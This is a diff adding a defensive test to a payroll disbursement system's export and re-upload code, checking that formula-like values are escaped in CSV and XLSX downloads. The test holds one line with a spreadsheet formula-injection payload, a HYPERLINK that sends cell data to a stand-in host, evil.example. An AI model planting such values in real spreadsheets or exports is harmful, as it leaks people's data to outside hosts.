@@ -2,7 +2,9 @@
 
 import csv
 import io
+import json
 import uuid
+import zipfile
 from datetime import timedelta
 
 import openpyxl
@@ -128,6 +130,48 @@ async def test_bad_files_get_row_level_problems_and_nothing_is_applied(app, http
     assert len(await lines(http, minter, payroll)) == 3
 
 
+ATTACK = '=HYPERLINK("http://evil.example/?d="&D2,"Xem")'
+
+
+async def test_formula_like_values_are_escaped_in_downloads_and_the_files_upload_again_unchanged(app, http, minter):
+    """A name imported as a formula comes out as text (CSV: a quote in front; XLSX: a string cell, never <f>), and
+    the post office's re-upload of what it downloaded reads the values as they were written."""
+    await feed(app, schedule(uuid.uuid4(), 1, [period("2024-07", None, 750_000)], name=ATTACK),
+               schedule(uuid.uuid4(), 1, [period("2024-07", None, 750_000)], name="-Nguyễn Văn B"))
+    payroll = await run(http, minter, ALLOWANCE, "2026-03")
+    batch = (await batches(http, minter, payroll))["84101"]
+    url = f"/batches/{batch['id']}/download"
+    rows = list(csv.reader(io.StringIO(
+        (await http.get(url, params={"format": "csv"}, headers=partner(minter))).content.decode("utf-8-sig"))))
+    assert sorted(r[2] for r in rows[1:]) == sorted(["'" + ATTACK, "'-Nguyễn Văn B"])
+    assert all(r[6] == "750000" for r in rows[1:])  # amounts stay numbers
+    filled = fill(rows, ["Đã chi trả", TODAY_DMY, "-Trần Văn Con", "+84-001", "750000", ""],
+                  ["Chưa chi trả", "", "", "", "", "@nhà vắng"])
+    r = await upload(http, minter, batch, as_csv(filled))
+    assert r.status_code == 200 and r.json()["recorded"] == 2, r.text
+    document = json.loads((await http.get(url, params={"format": "json"}, headers=partner(minter))).content)
+    stored = {x["line_id"]: x for x in document["lines"]}
+    assert stored[rows[1][1]]["result"]["proxy_name"] == "-Trần Văn Con"
+    assert stored[rows[1][1]]["result"]["receipt_number"] == "+84-001"
+    assert stored[rows[2][1]]["result"]["reason"] == "@nhà vắng"
+
+    # Downloaded now, the results are escaped too; uploaded as they are, they change nothing.
+    now = list(csv.reader(io.StringIO(
+        (await http.get(url, params={"format": "csv"}, headers=partner(minter))).content.decode("utf-8-sig"))))
+    assert now[1][14:16] == ["'-Trần Văn Con", "'+84-001"] and now[2][17] == "'@nhà vắng"
+    r = await upload(http, minter, batch, as_csv(now))
+    assert (r.status_code, r.json()["recorded"], r.json()["unchanged"], r.json()["exceptions"]) == (200, 0, 2, 0)
+
+    body = (await http.get(url, params={"format": "xlsx"}, headers=partner(minter))).content
+    with zipfile.ZipFile(io.BytesIO(body)) as z:
+        xml = z.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml and "HYPERLINK" in xml
+    sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
+    names = sorted(row[2] for row in sheet.iter_rows(min_row=2, values_only=True))
+    assert names == sorted(["'" + ATTACK, "'-Nguyễn Văn B"])
+    assert all(isinstance(row[6], int) for row in sheet.iter_rows(min_row=2, values_only=True))
+    r = await upload(http, minter, batch, body, XLSX)
+    assert (r.status_code, r.json()["recorded"], r.json()["unchanged"]) == (200, 0, 2), r.text
 async def test_a_paid_on_in_the_future_or_before_the_batch_is_a_row_level_problem(app, http, minter):
     payroll, batch, rows = await batch_file(app, http, minter)
     yesterday = (clock.today() - timedelta(days=1)).strftime("%d/%m/%Y")
